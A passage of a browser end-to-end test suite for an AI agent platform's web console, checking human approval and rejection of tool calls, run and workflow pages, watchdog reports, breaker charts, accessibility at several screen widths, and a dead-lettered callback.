      await expect.poll(focused).toBe('Reject needs_approval');
      await page.keyboard.press('Enter');
      await expect.poll(focused).toMatch(/^reason-/);
      await page.keyboard.type('not for this customer');
      await page.keyboard.press('Enter');
      const run = await finished(h, runId);
      const step = run.steps.find((s: { tool: string }) => s.tool === 'needs_approval');
      expect(step).toMatchObject({ ok: false, error_kind: 'forbidden' });
      await page.goto(`${h.url}/ui#/runs/${runId}`);
      await page.getByText(/Rejected\s+needs_approval\s+by tester: not for this customer/).waitFor();
      await expect
        .poll(() => page.locator(`details[data-call="${step.tool_call_id}"] > summary`).innerText())
        .toMatch(/rejected by tester[\s\S]*refused by a person: not for this customer/);
    });

    it('marks a request for a grant in the approvals, says what approving it grants, and shows who granted the tool to the run', async () => {
      const runId = (
        await h.call('POST', '/v1/runs', {
          body: { agent: 'asking', input: 'refund order 7', model: 'asking' },
        })
      ).json.run_id as string;
      await finished(h, runId, ['awaiting_approval']);
      await page.goto(`${h.url}/ui#/approvals`);
      const item = page.locator('.approval').filter({ hasText: runId });
      expect(await item.locator('.badge.grant').innerText()).toBe('asks for a grant');
      await item.getByRole('button', { name: 'Approve granted_refund' }).click();
      await item
        .getByText('It runs with the arguments shown, and granted_refund is granted to the rest of this run.')
        .waitFor();
      await expectAccessible();
      await shot('approvals-grant');
      await item.getByRole('button', { name: 'Confirm approve' }).click();
      const run = await finished(h, runId);
      expect(run).toMatchObject({
        status: 'succeeded',
        granted_by_approval: [{ tool: 'granted_refund', by: 'tester' }],
      });
      await page.goto(`${h.url}/ui#/runs/${runId}`);
      await page.locator('h1', { hasText: runId }).waitFor();
      await page.getByText('Run finished:').waitFor();
      await page.getByText(/Grant requested\s+for\s+granted_refund/).waitFor();
      await page.getByText(/Granted\s+granted_refund\s+by tester/).waitFor();
      expect(await page.locator('.facts dt').filter({ hasText: 'Granted' }).locator('+ dd').innerText()).toBe(
        'granted_refund by tester',
      );
    });

    it('lists each run with its input, duration, calls, errors and retries, a mark on a success with failed calls, and readable reasons and times', async () => {
      const troubled = (
        await h.call('POST', '/v1/runs', {
          body: {
            agent: 'test_agent',
            input: 'Check the weather in Hangzhou',
            model: 'inspect',
            metadata: { suite: TAG },
          },
        })
      ).json.run_id as string;
      const done = await finished(h, troubled);
      const parked = await parkApproval({ suite: TAG });
      await page.goto(`${h.url}/ui#/runs`);
      await page.getByLabel('Metadata').fill(`suite=${TAG}`);
      await page.getByRole('button', { name: 'Filter' }).click();
      const row = (id: string) => page.locator('table.runs tbody tr').filter({ hasText: id });
      const cell = (id: string, n: number) => row(id).locator('td').nth(n);
      await row(troubled).waitFor();
      expect(await cell(troubled, 3).innerText()).toBe('Check the weather in Hangzhou');
      expect(await cell(troubled, 7).innerText()).toBe('2 / 1 err / 0 retr');
      const mark = row(troubled).getByRole('img', { name: 'succeeded with 1 failed or refused call' });
      expect(await mark.innerText()).toBe('⚠ 1');
      const reason = cell(troubled, 8).locator('abbr');
      expect(await reason.innerText()).toBe('answered');
      expect(await reason.getAttribute('title')).toBe('reason code: final_answer');
      const created = cell(troubled, 4).locator('time');
      expect(await created.getAttribute('datetime')).toBe(new Date(done.created_at).toISOString());
      expect(await created.getAttribute('title')).toBe(
        new Date(done.created_at).toLocaleString('en-US', { hourCycle: 'h23', timeZone: 'UTC' }),
      );
      expect(await created.innerText()).toMatch(/^(now|\d+ seconds? ago|1 minute ago)$/);
      expect(await cell(troubled, 5).innerText()).toMatch(/^\d+(\.\d)? (ms|s)$/);

      // The markdown run: its retry counted, no mark (every call ended well).
      expect(await cell(mdRunId, 7).innerText()).toBe('2 / 0 err / 1 retr');
      expect(await row(mdRunId).locator('.mark').count()).toBe(0);
      // The rejected call of the keyboard test: a success with a refused call.
      // The parked run's duration goes on counting while the page stays open.
      const first = await cell(parked, 5).innerText();
      expect(first).toMatch(/…$/);
      await expect.poll(() => cell(parked, 5).innerText(), { timeout: 5000 }).not.toBe(first);
      await expectAccessible();
      await shot('runs');
      await h.call('POST', `/v1/runs/${parked}/cancel`);
    });

    it("never shows a finished run's creation or end as in the future, even to a browser whose clock is behind the server's", async () => {
      const behind = await signedIn(1280, 800);
      // Ten minutes behind: every time of a run of this suite is later than the browser's clock.
      await behind.clock.setFixedTime(Date.now() - 600_000);
      await behind.goto(`${h.url}/ui#/runs/${mdRunId}`);
      await behind.getByText('Run finished:').waitFor();
      const when = (label: string) =>
        behind.locator('dl.facts dt').filter({ hasText: label }).locator('+ dd time');
      expect(await when('Created').innerText()).toBe('now');
      expect(await when('Ended').innerText()).toBe('now');
      await behind.goto(`${h.url}/ui#/runs`);
      const created = behind.locator('table.runs tbody tr').filter({ hasText: mdRunId }).locator('time');
      await expect.poll(() => created.innerText()).toBe('now');
      await behind.context().close();
    });

    it('finds runs by their metadata on the runs page', async () => {
      const tag = `u-${Date.now()}`;
      const ids: string[] = [];
      for (const input of ['first', 'second']) {
        const id = (
          await h.call('POST', '/v1/runs', {
            body: { agent: 'test_agent', input, metadata: { user_id: tag } },
          })
        ).json.run_id as string;
        ids.push(id);
      }
      const other = (
        await h.call('POST', '/v1/runs', {
          body: { agent: 'test_agent', input: 'x', metadata: { user_id: 'bob' } },
        })
      ).json.run_id as string;
      for (const id of [...ids, other]) await finished(h, id);
      await page.goto(`${h.url}/ui#/runs`);
      await page.getByLabel('Metadata').fill(`user_id=${tag}`);
      await page.getByRole('button', { name: 'Filter' }).click();
      const rows = page.locator('table.runs tbody tr');
      await expect.poll(() => rows.locator('td:first-child').allInnerTexts()).toEqual([...ids].reverse());
    });

    it("shows agents with their tools, breaker states and error rates, a person's rejection counted apart from failures", async () => {
      await page.goto(`${h.url}/ui#/agents`);
      const tools = page.locator('.agent').filter({ hasText: 'test_agent' });
      const row = tools.locator('tr[data-tool="query_weather"]');
      await row.waitFor();
      expect(await row.innerText()).toMatch(/closed/);
      await expect
        .poll(async () => Number((await row.locator('td').nth(4).innerText()).trim()))
        .toBeGreaterThan(0);
      // needs_approval: one call approved, one rejected by a person: no error, one rejection.
      const approval = tools.locator('tr[data-tool="needs_approval"]');
      await expect.poll(() => approval.locator('td').nth(7).innerText()).toBe('1');
      expect(await approval.locator('td').nth(5).innerText()).toBe('0');
      expect(await approval.locator('td').nth(6).innerText()).toBe('0 %');
      await expectAccessible();
      await shot('agents');
    });

    it('charts runs per minute, latencies, error rates, breakers and queue depths on the overview, from the platform data', async () => {
      const cookie = await login(h, FULL_KEY);
      const data = (await (await fetch(`${h.url}/ui/api/overview`, { headers: { cookie } })).json()) as {
        runs: number;
        minutes: Array<{ counts: Record<string, number> }>;
        tools: Array<{ tool: string; calls: number; errors: number; rejected: number; p50_ms?: number }>;
        queues: Array<{ queue: string }>;
        run_latency: { count: number; p50_ms?: number; p95_ms?: number };
      };
      const listed = (await h.call('GET', '/v1/runs?limit=200')).json.runs as Array<{ status: string }>;
      expect(data.runs).toBe(listed.length);
      const counted = data.minutes.reduce((n, m) => n + (m.counts.succeeded ?? 0), 0);
      expect(counted).toBe(listed.filter((r) => r.status === 'succeeded').length);
      expect(data.tools.find((t) => t.tool === 'needs_approval')).toMatchObject({ errors: 0, rejected: 1 });
      expect(data.tools.find((t) => t.tool === 'no_such_tool')).toMatchObject({ errors: 2, rejected: 0 });
      expect(data.run_latency.p95_ms!).toBeGreaterThanOrEqual(data.run_latency.p50_ms!);
      expect(data.queues[0]!.queue).toBe(h.keys.runsQueue);

      await page.goto(`${h.url}/ui#/overview`);
      const chart = (name: string) => page.locator(`figure[data-chart="${name}"]`);
      await chart('runs-per-minute').waitFor();
      expect(await chart('runs-per-minute').locator('rect.fill-succeeded').count()).toBeGreaterThan(0);
      expect(await chart('runs-per-minute').locator('svg').getAttribute('aria-label')).toContain(
        `${counted} succeeded`,
      );
      expect(await chart('tool-errors').locator('svg').getAttribute('aria-label')).toMatch(
        /needs_approval 0 %; no_such_tool 100 %/,
      );
      expect(await chart('latency').locator('svg').getAttribute('aria-label')).toContain('query_weather p50');
      expect(await chart('queues').locator('svg').getAttribute('aria-label')).toMatch(
        /^Queue depths now: runs waiting/,
      );
      await chart('breakers')
        .getByText(/Every breaker is closed|closed/)
        .first()
        .waitFor();
      await expectAccessible();
      await shot('overview');
    });

    it('keeps every value label of the overview charts inside the chart, a latency of over a minute ("p95 1 min 12 s") included', async () => {
      const p = await signedIn(1280, 800);
      // The server's own figures, with runs that took over a minute as real models make them (this
      // suite's runs take a second or two): only the run latency is rewritten on its way to the page.
      await p.route('**/ui/api/overview', async (route) => {
        const response = await route.fetch();
        const json = (await response.json()) as Record<string, unknown>;
        await route.fulfill({
          response,
          json: { ...json, run_latency: { count: 2, p50_ms: 65_000, p95_ms: 72_000 } },
        });
      });
      await p.goto(`${h.url}/ui#/overview`);
      const latency = p.locator('figure[data-chart="latency"]');
      await latency.getByText('p95 1 min 12 s').waitFor();
      const cut = JSON.parse(
        (await p.evaluate(`JSON.stringify([...document.querySelectorAll('figure.chart svg')].flatMap((svg) => {
          const right = svg.getBoundingClientRect().right;
          return [...svg.querySelectorAll('text')]
            .filter((t) => t.getBoundingClientRect().right > right + 0.5)
            .map((t) => svg.closest('figure').dataset.chart + ': ' + t.textContent);
        }))`)) as string,
      ) as string[];
      expect(cut).toEqual([]);
      await shot('overview-long-latency', p);
      await p.context().close();
    });

    it("shows a workflow's nodes by depth with run times on a time axis, the watchdog on the node it touched, and links both ways", async () => {
      // stock → order: the watchdog gives stock its default after 1.5 s, then order runs on it.
      const started = await h.client.createWorkflow({ workflow: 'late_with_default', input: 'restock' });
      const done = await h.client.waitForWorkflow(started.workflow_id, { timeoutMs: 30_000 });
      expect(done.status).toBe('succeeded');
      await page.goto(`${h.url}/ui#/runs`);
      await page.getByRole('link', { name: 'Workflows' }).click();
      const row = page.locator('table.workflows tbody tr').filter({ hasText: started.workflow_id });
      await expect.poll(() => row.innerText()).toMatch(/late_with_default\s+succeeded/);
      await expectAccessible();
      await shot('workflows');
      await row.getByRole('link', { name: started.workflow_id }).click();
      const nodes = page.locator('table.nodes tbody tr');
      await expect
        .poll(() => nodes.allInnerTexts())
        .toEqual([
          expect.stringMatching(
            /^0\s+stock\s+test_agent\s+—\s+defaulted\s+watchdog injected the default after 1\.5 s and cancelled its run\s+low confidence/,
          ),
          expect.stringMatching(
            /^1\s+order\s+test_agent\s+stock\s+succeeded\s+low confidence\s+inputs: stock/,
          ),
        ]);
      expect(await nodes.nth(0).locator('td.output').innerText()).toContain('no stock data');
      const order = done.nodes.find((n) => n.id === 'order')!;
      expect(await nodes.nth(1).locator('td.ran').innerText()).toMatch(/^ran \d+(\.\d)? (ms|s)$/);
      // The time axis: a bar per node, the watchdog's mark on stock only.
      const timeline = page.locator('.nodes-timeline');
      expect(
        await timeline
          .locator('.wf-row[data-node]')
          .evaluateAll((r) => r.map((e) => e.getAttribute('data-node'))),
      ).toEqual(['stock', 'order']);
      expect(await timeline.locator('.wf-row[data-node="stock"] .wf-mark.watchdog').count()).toBe(1);
      expect(await timeline.locator('.wf-row[data-node="order"] .wf-mark.watchdog').count()).toBe(0);
      expect(await timeline.locator('.wf-row[data-node="order"] .wf-bar.node-succeeded').count()).toBe(1);
      await page.getByText(/Watchdog fired on node stock after 1\.5 s/).waitFor();
      await page.getByText('Workflow finished:').waitFor();
      expect(await page.getByRole('button', { name: 'Cancel' }).count()).toBe(0);
      await expectAccessible();
      await shot('workflow');
      await nodes.nth(1).getByRole('link', { name: order.run_id! }).click();
      await page.getByText('Run finished:').waitFor();
      expect(page.url()).toContain(`#/runs/${order.run_id!}`);
      await expect.poll(() => page.locator('h1 .badge').first().innerText()).toBe('succeeded');
      // And back: the run names its workflow and node.
      await page.locator('.facts').getByRole('link', { name: started.workflow_id }).click();
      await page.locator('table.nodes').waitFor();
      expect(page.url()).toContain(`#/workflows/${started.workflow_id}`);
    });

    it("shows the watchdog's abort report of a workflow whose node timed out with on_timeout: abort", async () => {
      const started = await h.client.createWorkflow({ workflow: 'late_aborts', input: 'restock' });
      await page.goto(`${h.url}/ui#/workflows/${started.workflow_id}`);
      // Opened while it runs: the abort arrives over the event stream.
      await page.getByText(/Abort report: stock timed out after 1\.5 s/).waitFor();
      await expect.poll(() => page.locator('h1 .badge').innerText()).toBe('aborted');
      await page.getByText(/Watchdog fired on node stock after 1\.5 s:\s*abort/).waitFor();
      const report = (await h.client.getWorkflow(started.workflow_id)).report!;
      expect(await page.locator('.box.warn .text').innerText()).toBe(report.text);
      await expect
        .poll(() => page.locator('tr[data-node="stock"] .watchdog').innerText())
        .toBe('watchdog aborted the workflow after 1.5 s and cancelled its run');
      await shot('workflow-aborted');
    });

    it('cancels a running workflow from its page and shows it cancelled live, with the run time of the cancelled node whose bar is drawn', async () => {
      const started = await h.client.createWorkflow({ workflow: 'hangs', input: 'wait' });
      await page.goto(`${h.url}/ui#/workflows/${started.workflow_id}`);
      await expect.poll(() => page.locator('h1 .badge').innerText()).toBe('running');
      await page.getByRole('button', { name: 'Cancel' }).click();
      // The same page, never reloaded: the event stream brings the end.
      await page.getByText('Cancellation requested').waitFor();
      await expect.poll(() => page.locator('h1 .badge').innerText()).toBe('cancelled');
      expect((await h.client.getWorkflow(started.workflow_id)).reason).toBe('cancel_requested');
      // The node ran until the cancellation: its bar is drawn, and its Ran cell says for how long.
      await page.locator('.nodes-timeline .wf-row[data-node="stuck"] .wf-bar.node-cancelled').waitFor();
      await expect
        .poll(() => page.locator('tr[data-node="stuck"] td.ran').innerText())
        .toMatch(/^ran \d+(\.\d)? (ms|s)$/);
    });

    // Six pages and a login form, each checked by axe-core, and a decision: longer than the default.
    it('is usable and passes the accessibility check at phone width (390×844) as at 1280×800', async () => {
      const phone = await signedIn(390, 844);
      // The page's width, and the elements that reach past the screen's edge (to name a culprit).
      const fits = async () =>
        JSON.parse(
          (await phone.evaluate(`JSON.stringify({
            page: document.documentElement.scrollWidth,
            view: window.innerWidth,
            past: [...document.querySelectorAll('body *')]
              .filter((e) => e.getBoundingClientRect().right > window.innerWidth + 1 && !e.closest('nav, .table-wrap, .chart svg, .skip'))
              .slice(0, 5)
              .map((e) => e.tagName + '.' + e.className),
          })`)) as string,
        ) as { page: number; view: number; past: string[] };
      const check = async (hash: string, ready: () => Promise<unknown>, name: string) => {
        await phone.goto(`${h.url}/ui#/${hash}`);
        await ready();
        const size = await fits();
        expect(size.page, `#/${hash} is wider than the screen: ${size.past.join(', ')}`).toBeLessThanOrEqual(
          size.view,
        );
        expect(await accessibilityViolations(phone), `#/${hash}`).toEqual([]);
        await shot(`phone-${name}`, phone);
      };
      await check('runs', () => phone.locator('table.runs tbody tr').first().waitFor(), 'runs');
      await check(`runs/${mdRunId}`, () => phone.getByText('Run finished:').waitFor(), 'run');
      // Fewer ticks on a narrow axis: no label sits on another.
      expect(await phone.locator('.waterfall .wf-tick').count()).toBeGreaterThanOrEqual(2);
      expect(await overlappingTicks(phone)).toEqual([]);
      await check('overview', () => phone.locator('figure[data-chart="queues"]').waitFor(), 'overview');
      await check('agents', () => phone.locator('tr[data-tool="noop"]').first().waitFor(), 'agents');
      const workflow = (await h.call('GET', '/v1/workflows?limit=1')).json.workflows[0].workflow_id as string;
      await check(`workflows/${workflow}`, () => phone.locator('.nodes-timeline').waitFor(), 'workflow');
      expect(await overlappingTicks(phone)).toEqual([]);
      // A decision made at phone width: the buttons are on screen and work.
      const runId = await parkApproval();
      await check(
        'approvals',
        () => phone.locator('.approval').filter({ hasText: runId }).waitFor(),
        'approvals',
      );
      const item = phone.locator('.approval').filter({ hasText: runId });
      await item.getByRole('button', { name: 'Approve needs_approval' }).click();
      await item.getByRole('button', { name: 'Confirm approve' }).click();
      expect((await finished(h, runId)).status).toBe('succeeded');
      await phone.context().close();

      // Signed out: the login form at phone width.
      const out = await browser.newContext({ viewport: { width: 390, height: 844 } });
      const login = await out.newPage();
      await login.goto(`${h.url}/ui`);
      await login.getByLabel('API key').waitFor();
      expect(await accessibilityViolations(login)).toEqual([]);
      expect(await login.evaluate('document.documentElement.scrollWidth <= window.innerWidth')).toBe(true);
      await out.close();
    }, 90_000);

    it('underlines links in a model answer, passes axe-core link-in-text-block, and renders a GitHub-style table as a table', async () => {
      const runId = (
        await h.call('POST', '/v1/runs', {
          body: { agent: 'test_agent', input: 'stock?', model: 'inspect-links' },
        })
      ).json.run_id as string;
      await finished(h, runId);
      const p = await signedIn(1280, 800);
      await p.goto(`${h.url}/ui#/runs/${runId}`);
      const answer = p.locator('.box.answer .markdown');
      const link = answer.getByRole('link', { name: 'the ledger' });
      await link.waitFor();
      expect(
        await p.evaluate(
          "getComputedStyle(document.querySelector('.box.answer .markdown p a')).textDecorationLine",
        ),
      ).toBe('underline');
      const table = answer.locator('table');
      expect(await table.locator('thead th').allInnerTexts()).toEqual(['Warehouse', 'Item', 'Stock']);
      expect(await table.locator('tbody tr').allInnerTexts()).toEqual([
        expect.stringMatching(/^WH-2\s+bolts \| nuts\s+3$/),
        expect.stringMatching(/^WH-7\s+washers\s+12$/),
      ]);
      expect(await table.locator('tbody tr').nth(1).locator('strong').innerText()).toBe('washers');
      expect(
        JSON.parse(
          (await p.evaluate(
            "JSON.stringify([...document.querySelectorAll('.box.answer .markdown tbody tr:first-child td')].map((td) => getComputedStyle(td).textAlign))",
          )) as string,
        ),
      ).toEqual(['left', 'center', 'right']);
      expect(await answer.locator('p').allInnerTexts()).toEqual([
        'Stock is low: see the ledger for the figures of each warehouse.',
        'Order before Friday.',
      ]);
      expect((await accessibilityViolations(p)).filter((v) => v.id === 'link-in-text-block')).toEqual([]);
      await expectAccessible(p);
      await shot('answer-links-table', p);
      await p.context().close();
    });

    it("lists model provider breakers and MCP servers beside tool breakers on the overview, and never says every breaker is closed while a provider's is open", async () => {
      const cookie = await login(h, FULL_KEY);
      type Overview = {
        provider_breakers: Array<{ provider: string; state: string }>;
        mcp_servers: Array<{ name: string; up: number; executors: number; tools: number; error?: string }>;
      };
      const overview = async () =>
        (await (await fetch(`${h.url}/ui/api/overview`, { headers: { cookie } })).json()) as Overview;
      const servers = await waitFor(
        async () => {
          const got = (await overview()).mcp_servers;
          return got.length === 2 && got[0]!.up === 1 ? got : undefined;
        },
        20_000,
        'both MCP servers reported, fs up',
      );
      expect(servers[0]).toMatchObject({ name: 'fs', up: 1, executors: 1 });
      expect(servers[0]!.tools).toBeGreaterThan(0);
      expect(servers[1]).toMatchObject({ name: 'gone', up: 0, executors: 1 });
      expect(servers[1]!.error).toMatch(/agent-reach-no-such-command|ENOENT/);
      expect((await overview()).provider_breakers).toContainEqual({ provider: 'spare', state: 'closed' });

      // A run on the provider that refuses connections: one failure opens its breaker.
      const runId = (
        await h.call('POST', '/v1/runs', {
          body: { agent: 'test_agent', input: 'hello', model: 'spare/unused' },
        })
      ).json.run_id as string;
      await finished(h, runId, ['failed']);
      await waitFor(
        async () =>
          (await overview()).provider_breakers.some((p) => p.provider === 'spare' && p.state === 'open'),
        10_000,
        'the spare provider breaker to be open',
      );

      const p = await signedIn(1280, 800);
      await p.goto(`${h.url}/ui#/overview`);
      const chart = p.locator('figure[data-chart="breakers"]');
      const providers = chart.getByRole('list', { name: 'Model provider breakers' });
      await expect
        .poll(() => providers.locator('li[data-name="spare"]').innerText())
        .toMatch(/^spare\s+open$/);
      const mcp = chart.getByRole('list', { name: 'MCP servers' });
      expect(await mcp.locator('li[data-name="fs"] .badge').innerText()).toBe('up');
      expect(await mcp.locator('li[data-name="gone"] .badge').innerText()).toBe('down');
      expect(await mcp.locator('li[data-name="gone"]').innerText()).toMatch(/up on 0 of 1 executor/);
      expect(await chart.getByText(/Every breaker is closed/).count()).toBe(0);
      await expectAccessible(p);
      await shot('overview-reach', p);
      await p.context().close();
    });

    it('shows every column of the runs table at 1280 px, Turns, Calls, Reason and Metadata included, without a sideways scroll', async () => {
      // Placed after the overview's test, which counts the calls of the runs before it. A run as wide
      // as they come: a long input, a success with a failed call (its mark), a parked run's
      // status, and metadata.
      const wide = {
        agent: 'test_agent',
        input:
          'What is the weather in Hangzhou today, and should I take an umbrella to the office tomorrow morning?',
        metadata: { user_id: '4242424242', channel: 'web-console', suite: TAG },
      };
      const runId = (await h.call('POST', '/v1/runs', { body: { ...wide, model: 'inspect' } })).json
        .run_id as string;
      await finished(h, runId);
      await parkApproval(wide.metadata);
      const p = await signedIn(1280, 800);
      await p.goto(`${h.url}/ui#/runs`);
      await p.locator('table.runs tbody tr').filter({ hasText: runId }).waitFor();
      await shot('runs-1280', p);
      const layout = JSON.parse(
        (await p.evaluate(`JSON.stringify((() => {
          const wrap = document.querySelector('.table-wrap[aria-label="Runs"]');
          const right = wrap.getBoundingClientRect().right;
          return {
            scroll: wrap.scrollWidth - wrap.clientWidth,
            past: [...document.querySelectorAll('table.runs thead th')]
              .filter((th) => th.getBoundingClientRect().right > right + 1)
              .map((th) => th.innerText),
          };
        })())`)) as string,
      ) as { scroll: number; past: string[] };
      expect(layout.past).toEqual([]);
      expect(layout.scroll).toBeLessThanOrEqual(0);
      // The run's id is still whole in the page (for search and copy), and the metadata shows.
      const row = p.locator('table.runs tbody tr').filter({ hasText: runId });
      expect(await row.locator('td').first().innerText()).toBe(runId);
      expect(await row.locator('td.meta').innerText()).toMatch(/user_id=4242424242\s*channel=web-console/);
      await p.context().close();
    });

    it('shows a limited key only the runs of its agents', async () => {
      const mine = (
        await h.call('POST', '/v1/runs', {
          body: { agent: 'weather_only', input: 'rain?' },
          key: LIMITED_KEY,
        })
      ).json.run_id as string;
      await finished(h, mine);
      await page.getByRole('button', { name: 'Sign out' }).click();
      await page.getByLabel('API key').fill(LIMITED_KEY);
      await page.getByRole('button', { name: 'Sign in' }).click();
      await page.getByText('weather-desk').waitFor();
      await page.goto(`${h.url}/ui#/runs`);
      await page.getByRole('heading', { name: /Runs/ }).waitFor();
      const agents = page.locator('table.runs tbody tr td:nth-child(2)');
      await expect.poll(() => agents.allInnerTexts()).toContain('weather_only');
      expect(new Set(await agents.allInnerTexts())).toEqual(new Set(['weather_only']));
      // The test workflows use only test_agent: this key sees none, so no Workflows link either.
      expect(await page.getByRole('link', { name: 'Workflows' }).count()).toBe(0);
    });
  },
);

// A scheduler of its own: the shared harness's scheduler signs no callbacks (no CALLBACK_SECRETS).
describe.skipIf(!HAVE_CHROMIUM)(
  "the run page's Callback box, for a run whose receiver is down",
  { timeout: 120_000 },
  () => {
    const key = `cb-${Date.now()}-inspector-key`;
    let t: ReturnType<typeof testRedis>;
    let sim: LlmSim;
    let executor: ExecutorProcess;
    let scheduler: SchedulerProcess;
    let browser: Browser;

    beforeAll(async () => {
      await (buildUi as () => Promise<void>)();
      t = testRedis();
      sim = await startLlmSim({ scenarios: [{ name: 'echo', turns: [{ content: 'hello' }] }] });
      const env = testEnv(t.prefix, sim, {
        ...apiEnv(key),
        ALLOWED_MODELS: 'echo',
        CALLBACK_SECRETS: `*=${generateWebhookSecret()}`,
        CALLBACK_ALLOWED_HOSTS: '127.0.0.1',
        // Two quick attempts: the delivery is dead-lettered within the test.
        CALLBACK_MAX_ATTEMPTS: '2',
        CALLBACK_BACKOFF_MS: '100',
        CALLBACK_TIMEOUT_MS: '2000',
      });
      const config = loadConfig(env);
      const logger = createLogger('test', { level: 'silent' });
      executor = await startExecutor(config, { extraTools: testTools, logger });
      scheduler = await startScheduler(config, { logger, env });
      browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: ['--no-sandbox'] });
    }, 120_000);
    afterAll(async () => {
      await browser?.close();
      await scheduler?.close();
      await executor?.close();
      await sim?.close();
      await t?.cleanup();
    });

    it('names a dead-lettered delivery in words, with its attempts and last error, and passes axe-core', async () => {
      const base = String(scheduler.apiUrl).replace(/\/$/, '');
      const headers = { authorization: `Bearer ${key}`, 'content-type': 'application/json' };
      // Nothing listens on the discard port: both attempts are refused.
      const created = await fetch(`${base}/v1/runs`, {
        method: 'POST',
        headers,
        body: JSON.stringify({
          agent: 'test_agent',
          input: 'hi',
          model: 'echo',
          callback: { url: 'http://127.0.0.1:9/hook' },
        }),
      });
      expect(created.status).toBe(201);
      const runId = String(((await created.json()) as { run_id: string }).run_id);
      await waitFor(
        async () => {
          const run = (await (await fetch(`${base}/v1/runs/${runId}`, { headers })).json()) as {
            callback?: { deliveries: Array<{ state: string }> };
          };
          return run.callback?.deliveries[0]?.state === 'dead_lettered' ? true : undefined;
        },
        60_000,
        'the delivery to be dead-lettered',
      );
      const login = await fetch(`${base}/ui/login`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ key }),
      });
      const [name, value] = (login.headers.get('set-cookie') ?? '').split(';')[0]!.split('=') as [
        string,
        string,
      ];
      const ctx = await browser.newContext({
        viewport: { width: 1280, height: 800 },
        locale: 'en-US',
        timezoneId: 'UTC',
      });
      await ctx.addCookies([{ name, value, url: base }]);
      const p = await ctx.newPage();
      p.setDefaultTimeout(10_000);
      await p.goto(`${base}/ui#/runs/${runId}`);
      const box = p.getByRole('region', { name: 'Callback' });
      await box.waitFor();
      const text = await box.innerText();
      expect(text).toContain('http://127.0.0.1:9/hook');
      expect(text).toContain('1 delivery dead-lettered');
      expect(text).toMatch(/run\.finished\s+⚠ dead-lettered\s+2 attempts/);
      expect(text).toContain('Dead-lettered: no further attempts will be made.');
      expect(text).toMatch(/last error: .*ECONNREFUSED/);
      await mkdir(SCREENSHOTS, { recursive: true });
      await p.screenshot({ path: path.join(SCREENSHOTS, 'run-callback-dead-lettered.png'), fullPage: true });
      if ((await p.evaluate('typeof window.axe')) === 'undefined') await p.evaluate(await AXE_SOURCE);
      const violations = await p.evaluate(`axe
        .run(document, { runOnly: { type: 'tag', values: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa'] } })
        .then((r) => JSON.stringify(r.violations.map((v) => ({ id: v.id, nodes: v.nodes.map((n) => n.target.join(' ')) }))))`);
      expect(JSON.parse(violations as string)).toEqual([]);
      await ctx.close();
    });
  },
);
